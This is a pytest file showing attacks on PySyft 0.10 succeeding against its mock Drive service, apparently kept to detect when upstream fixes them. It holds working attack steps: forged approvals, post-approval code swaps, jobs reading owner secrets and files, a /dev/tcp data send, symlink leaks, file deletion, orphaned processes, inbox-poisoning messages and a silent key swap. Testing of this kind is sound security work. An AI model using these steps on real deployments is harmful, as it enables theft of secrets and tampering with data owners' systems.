"""What succeeds against PySyft 0.10 as shipped, on the mock Drive service that it ships.

Each test shows one attack of docs/attacks.md going through against a stock owner or researcher
client. They are there to know when a new syft mends one: then the test fails, and the table is
brought up to date. `test_dura.py` shows the same attacks failing here.
"""

import json
import os
import socket
import stat
import threading
import time

import pytest
from syft.sync.messages.proposed_filechange import ProposedFileChangesMessage
from syft.sync.peers.peer_store import PeerStore
from syft.sync.utils.syftbox_utils import get_event_hash_from_content

from tests.syftnetkit import ANN, JOBS, STATES, A, B

SCRIPT = "echo approved > outputs.txt"


def test_01_the_body_names_the_owner_and_files_of_the_owner_are_written(stock):
    stock.send(("public/planted.txt", "planted"))
    assert stock.sync() is None
    assert not (stock.site / "public" / "planted.txt").exists()
    stock.send(("public/planted.txt", "planted"), sender=A)
    stock.sync()
    assert (stock.site / "public" / "planted.txt").read_text() == "planted"


def test_02_a_researcher_approves_their_own_job_and_it_runs(stock):
    stock.submit("touch ran; mkdir -p outputs; echo ran > outputs/proof")
    assert stock.job().status == "pending"
    state = stock.site / STATES / "job" / "state.yaml"
    approved = state.read_text().replace("status: pending", "status: approved")
    old = get_event_hash_from_content(state.read_text())
    stock.send((f"{STATES}/job/state.yaml", approved, old), sender=A)
    stock.sync()
    assert stock.job().status == "approved"
    stock.run()
    assert stock.job().status == "done"


def test_03_the_permission_file_is_replaced(stock):
    path = f"app_data/job/review/{ANN}/syft.pub.yaml"
    old = get_event_hash_from_content((stock.site / path).read_text())
    stock.send((path, "rules: []\n", old), sender=A)
    stock.sync()
    assert (stock.site / path).read_text() == "rules: []\n"


def test_04_working_files_travel_without_a_release(stock):
    stock.submit_approve_run("echo unreleased > working.txt")
    assert stock.seen("working.txt") == "unreleased\n"


def test_05_what_a_job_prints_travels_without_a_release(stock):
    stock.submit_approve_run("echo unreleased")
    assert stock.seen("stdout.txt", where=STATES) == "unreleased\n"


def test_06_outputs_travel_without_a_release(stock):
    stock.submit_approve_run("mkdir -p outputs; echo unreleased > outputs/result")
    assert stock.seen("outputs/result") == "unreleased\n"


def test_07_code_is_changed_after_its_approval(stock):
    stock.submit("echo first > which.txt")
    stock.approve()
    run = stock.site / JOBS / "job" / "run.sh"
    old = get_event_hash_from_content(run.read_text())
    stock.send((f"{JOBS}/job/run.sh", "echo changed > which.txt", old))
    stock.sync()
    stock.run()
    assert stock.seen("which.txt") == "changed\n"


def test_08_a_job_reads_the_owners_environment(stock, monkeypatch):
    monkeypatch.setenv("OWNER_SECRET", "hunter2")
    stock.submit_approve_run("echo $OWNER_SECRET")
    assert stock.seen("stdout.txt", where=STATES) == "hunter2\n"


def test_09_a_job_reads_the_owners_files(stock):
    (stock.root / "secret").write_text("a secret of the host")
    stock.submit_approve_run(f"cat {stock.root}/secret")
    assert "a secret of the host" in stock.seen("stdout.txt", where=STATES)


def test_10_a_job_uses_the_network(stock):
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(20)

        def listen():
            connection, _ = server.accept()
            with connection:
                heard.append(connection.recv(100))

        listener = threading.Thread(target=listen)
        listener.start()
        port = server.getsockname()[1]
        stock.submit_approve_run(f"bash -c 'echo out > /dev/tcp/127.0.0.1/{port}'")
        listener.join(timeout=20)
    assert heard == [b"out\n"]


def test_11_private_keys_are_readable_by_others(stock, tmp_path):
    mask = os.umask(0o022)
    try:
        PeerStore.create(email=A, use_encryption=True, keys_path=tmp_path / "crypto_keys.json")
    finally:
        os.umask(mask)
    assert stat.S_IMODE((tmp_path / "crypto_keys.json").stat().st_mode) & 0o044


@pytest.mark.parametrize("what", ["garbage", "path", "hash"])
def test_12_one_bad_message_stops_the_inbox_for_good(stock, what):
    if what == "garbage":
        message = ProposedFileChangesMessage(sender_email=ANN, proposed_file_changes=[])
        connection = stock.router.connections[0]
        connection.watcher_send_raw_bytes_to_inbox(
            A, message.message_filename.as_string(), b"garbage"
        )
    elif what == "path":
        stock.send(("/absolute/path", "x"))
    else:
        stock.send((f"{JOBS}/x.txt", "x", "0" * 64))
    stock.quietly(stock.researcher.submit_bash_job, A, SCRIPT, job_name="good")
    for _ in range(3):
        assert stock.sync() is not None
    assert not (stock.site / JOBS / "good").exists()


def test_13_a_replayed_message_stops_the_inbox_for_good(stock):
    stock.send((f"{JOBS}/x.txt", "first"))
    connection = stock.router.connections[0]
    store = stock.owner.sync_engine.peer_manager.connection_router.connections[0]
    files = store.drive_service._backing_store.files.values()
    (waiting,) = [file for file in files if file.name.startswith("msgv2")]
    data, name = waiting.content, waiting.name
    assert stock.sync() is None
    connection.watcher_send_raw_bytes_to_inbox(A, name, data)
    for _ in range(2):
        assert stock.sync() is not None


def test_14_a_hospital_writes_into_anothers_results(stock):
    stock.publish(f"{STATES}/job/outputs/result", "forged", datasite=B)
    forged = stock.mirror / B / STATES / "job" / "outputs" / "result"
    assert forged.read_text() == "forged"


def test_15_a_hospital_overwrites_the_researchers_own_files(stock):
    stock.publish("private/crypto_keys.json", "{}", datasite=ANN)
    assert (stock.mirror / ANN / "private" / "crypto_keys.json").read_text() == "{}"


def test_16_an_approval_is_lost_by_a_restart(stock):
    """The owner's own approval is a local file that a sync from the log puts back."""
    stock.submit(SCRIPT)
    assert stock.job().status == "pending"
    before = (stock.site / STATES / "job" / "state.yaml").read_text()
    stock.approve()
    assert stock.job().status == "approved"
    (stock.site / STATES / "job" / "state.yaml").write_text(before)
    assert stock.job().status == "pending"  # nothing signed says otherwise


def test_17_a_job_whose_runner_was_killed_hangs_for_ever(stock):
    stock.submit(SCRIPT)
    stock.approve()
    state = stock.site / STATES / "job" / "state.yaml"
    state.write_text(state.read_text().replace("status: approved", "status: running"))
    for again in (stock.job().approve, stock.job().rerun):
        with pytest.raises(ValueError, match="running"):
            stock.quietly(again)
    stock.run()
    assert stock.job().status == "running"


@pytest.mark.parametrize("link", ["ln -s", "ln"])
def test_18_a_link_in_the_outputs_is_followed(stock, link):
    (stock.root / "secret").write_text("a secret of the host")
    stock.submit_approve_run(f"mkdir -p outputs; {link} {stock.root}/secret outputs/result")
    assert stock.seen("outputs/result") == "a secret of the host"


def test_19_a_decompression_bomb_is_unpacked(stock):
    stock.send((f"{JOBS}/bomb.txt", "0" * 20_000_000))
    assert stock.sync() is None
    assert (stock.site / JOBS / "bomb.txt").stat().st_size == 20_000_000


def test_20_any_number_of_files_is_taken(stock):
    stock.send(*[(f"{JOBS}/f{number}.txt", "x") for number in range(300)])
    assert stock.sync() is None
    assert len(list((stock.site / JOBS).glob("f*.txt"))) == 300


def test_21_a_swapped_key_is_paired_without_a_word(tmp_path, monkeypatch):
    """Trust on first use: no fingerprint is shown or asked for."""
    import contextlib
    import inspect
    import io
    import warnings

    from syft_rds.client import SyftRDSClient

    with contextlib.redirect_stdout(io.StringIO()), warnings.catch_warnings():
        warnings.simplefilter("ignore")
        researcher, owner = SyftRDSClient.pair_with_mock_drive_service_connection(
            email1=A,
            email2=ANN,
            base_path1=str(tmp_path / "owner"),
            base_path2=str(tmp_path / "researcher"),
            encryption=True,
            add_peers=False,
        )
        researcher.add_peer(A, sync=False)
        eve = PeerStore(email=ANN, use_encryption=True)
        eve.generate_keys()
        text = json.dumps({"public_encryption_bundle": eve.get_public_bundle()})
        router = type(owner.sync_engine.peer_manager.connection_router)
        monkeypatch.setattr(router, "read_peer_encryption_bundle", lambda *_: text)
        owner.load_peers()
        owner.approve_peer_request(ANN)
    taken = owner.sync_engine.peer_manager.get_cached_peer(ANN).public_encryption_bundle
    assert taken == eve.get_public_bundle()
    assert "fingerprint" not in inspect.signature(owner.approve_peer_request).parameters


def test_22_a_job_is_run_again_without_review_and_without_a_count(stock):
    stock.submit_approve_run("echo run >> count.txt")
    for _ in range(3):
        stock.quietly(stock.job().rerun)
        assert stock.job().status == "approved"
        stock.run()
    assert stock.seen("count.txt").count("run") == 4


def test_23_odd_job_names_are_taken_from_the_researcher(stock):
    for name in ("a/b", "../../x"):
        stock.quietly(stock.researcher.submit_bash_job, A, SCRIPT, job_name=name)


def test_24_a_job_deletes_and_fills_what_the_owner_has(stock):
    (stock.root / "valuable").write_text("x")
    stock.submit_approve_run(f"rm {stock.root}/valuable; head -c 5000000 /dev/zero > big.txt")
    assert not (stock.root / "valuable").exists()


def test_25_a_job_leaves_processes_behind(stock):
    stock.submit_approve_run(
        f"(setsid sh -c 'sleep 1; echo late > {stock.root}/late' >/dev/null 2>&1 &)"
    )
    deadline = time.monotonic() + 20
    while not (stock.root / "late").exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert (stock.root / "late").exists()


def test_26_a_job_traces_and_opens_sockets(stock):
    probe = (
        "python3 -c 'import ctypes,socket; socket.socket(socket.AF_NETLINK, 3); "
        "print(ctypes.CDLL(None).ptrace(0, 0, 0, 0))'"
    )
    stock.submit_approve_run(probe)
    assert stock.seen("stdout.txt", where=STATES) == "0\n"
